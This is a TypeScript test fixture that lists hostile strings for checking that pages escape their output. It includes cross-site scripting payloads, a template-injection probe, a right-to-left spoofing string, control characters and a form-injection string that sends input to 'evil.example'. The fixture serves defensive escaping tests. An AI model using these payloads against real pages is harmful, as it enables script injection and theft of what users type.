/** Texts that break pages which do not escape them, each with a part that must never stand unescaped in the source. */
export const HOSTILE = {
	script: '<script>alert(1)</script>',
	closesStyle: '</style><script>alert(2)</script>',
	closesScript: '</script><script>alert(3)</script>',
	attribute: '" onmouseover="alert(4)" autofocus onfocus="alert(5)',
	singleQuote: "' onclick='alert(6)",
	textarea: '</textarea></form><form action="https://evil.example"><input name=x>',
	entity: '&lt;script&gt;&amp;#39;',
	template: '${7*7} {{constructor.constructor("return 1")()}}',
	rightToLeft: 'pay \u202Edrac\u2066 to me\u2069',
	emoji: '👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿 ok',
	controls: 'a\u0000b\u0007c\r\nd',
	loneSurrogate: 'x\uD800y',
} as const;
